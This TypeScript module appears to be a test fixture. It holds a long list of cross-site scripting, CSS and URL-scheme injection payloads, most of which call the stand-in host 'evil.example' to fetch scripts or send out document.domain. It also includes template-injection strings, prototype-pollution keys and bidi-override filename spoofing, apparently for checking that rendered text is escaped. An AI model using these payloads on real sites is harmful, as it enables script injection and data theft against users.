/** Target of every request of a successful payload. */
export const HOSTILE_HOST = 'evil.example'

const call = `fetch('https://${HOSTILE_HOST}/'+document.domain),alert(1)`

/** Strings that try to run a script, send a request or change the page when shown as text or link. */
export const payloads: readonly string[] = [
  ...inElements(),
  ...inAttributes(),
  ...inAddresses(),
  ...inStyles(),
  // Elements
  `<script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</textarea></noscript></template><script>${call}</script>`,
  `<ScRiPt src=//${HOSTILE_HOST}/x.js></sCrIpT>`,
  `<img src=x onerror="${call}">`,
  `<img src=https://${HOSTILE_HOST}/pixel.png>`,
  `<svg onload="${call}">`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${call}">`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="https://${HOSTILE_HOST}/x.swf">`,
  `<details open ontoggle="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<body onload="${call}">`,
  `<input autofocus onfocus="${call}">`,
  `<form action="https://${HOSTILE_HOST}/"><button>Send</button></form>`,
  `<base href="https://${HOSTILE_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOSTILE_HOST}/">`,
  `<link rel=stylesheet href="https://${HOSTILE_HOST}/x.css">`,
  `<style>@import 'https://${HOSTILE_HOST}/x.css';*{display:none}</style>`,
  // Out of an attribute
  `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  `' onmouseover='${call}' autofocus onfocus='${call}' x='`,
  `"><script>${call}</script>`,
  `'><img src=x onerror=alert(1)>`,
  '` onerror=alert(1) `',
  // Addresses
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `javascript://example.org/%0A${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg onload="${call}" xmlns="http://www.w3.org/2000/svg"/>`,
  `vbscript:msgbox(1)`,
  `https://example.org@${HOSTILE_HOST}/`,
  `https://${HOSTILE_HOST}/"onmouseover="${call}`,
  `https://${HOSTILE_HOST}/picture.png`,
  `http://${HOSTILE_HOST}/picture.png`,
  `//${HOSTILE_HOST}/x`,
  `\\\\${HOSTILE_HOST}\\x`,
  // Templates and interpolation
  `<%= process.exit() %><%~ '<script>alert(1)</script>' %>`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must arrive as it is.
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '{{page}} $t(page.wordmark)',
  // Entities and encodings
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u2028\u2029<script>alert(1)</script>',
  // Reading order
  '\u202egnp.exe\u202c\u2066\u2067\u200f',
  'constructor',
  '__proto__',
]

/** Elements with handlers, in variants that filters have missed. */
function inElements(): string[] {
  const elements = [
    ['audio src=x', 'onerror'],
    ['body', 'onpageshow'],
    ['button autofocus', 'onfocus'],
    ['details open', 'ontoggle'],
    ['div contenteditable', 'onbeforeinput'],
    ['div', 'onpointerenter'],
    ['dialog open', 'onclose'],
    ['form', 'onsubmit'],
    ['iframe', 'onload'],
    ['img src=x', 'onerror'],
    ['img srcset=x', 'onerror'],
    ['input autofocus', 'onfocusin'],
    ['link rel=icon href=x', 'onerror'],
    ['marquee', 'onstart'],
    ['meter', 'onmouseover'],
    ['object data=x', 'onerror'],
    ['select autofocus', 'onfocus'],
    ['style', 'onload'],
    ['svg', 'onload'],
    ['textarea autofocus', 'onfocus'],
    ['video poster=x', 'onloadstart'],
    ['x tabindex=1', 'onfocus'],
  ] as const
  return elements.flatMap(([element, handler]) => [
    `<${element} ${handler}="${call}">`,
    `<${element.toUpperCase()} ${handler.toUpperCase()}=alert(1)//`,
    `</p><${element}/${handler}=alert&lpar;1&rpar;>`,
  ])
}

/** Escapes from quoted, unquoted and commented places. */
function inAttributes(): string[] {
  const ends = [
    '"',
    "'",
    '`',
    '">',
    "'>",
    '--><',
    ']]><',
    '</title><',
    '</style><',
    '</svg><',
    '</summary><',
    '</dd></dl><',
  ]
  return ends.flatMap((end) => [
    `${end} onclick="${call}" x=${end}`,
    `${end}img src=x onerror=alert(1) x`,
    `x${end}\u0000<script>${call}</script>`,
  ])
}

/** Schemes that run scripts or leave the origin, and spellings that parsers accept. */
function inAddresses(): string[] {
  const schemes = [
    'javascript',
    'vbscript',
    'data',
    'blob',
    'filesystem',
    'file',
    'view-source',
    'about',
    'ws',
    'intent',
  ]
  return schemes.flatMap((scheme) => [
    `${scheme}:${call}`,
    `${scheme.toUpperCase()}&colon;alert(1)`,
    `\t${scheme}\n:alert(1)`,
    `https://${HOSTILE_HOST}/\u202e${scheme}:alert(1)`,
  ])
}

/** Rules and functions of style sheets that load from another host. */
function inStyles(): string[] {
  const address = `https://${HOSTILE_HOST}/style`
  return [
    `;background:url(${address})`,
    `}*{background:url("${address}")}`,
    `</style><style>*{background:url(${address})}`,
    `@import "${address}";`,
    `@font-face{font-family:x;src:url(${address})}`,
    `#fff;--accent:url(${address})`,
    `expression(alert(1))`,
    `x:-moz-binding(url(${address}))`,
    `image-set("${address}" 1x)`,
    `attr(href url, ${address})`,
  ]
}
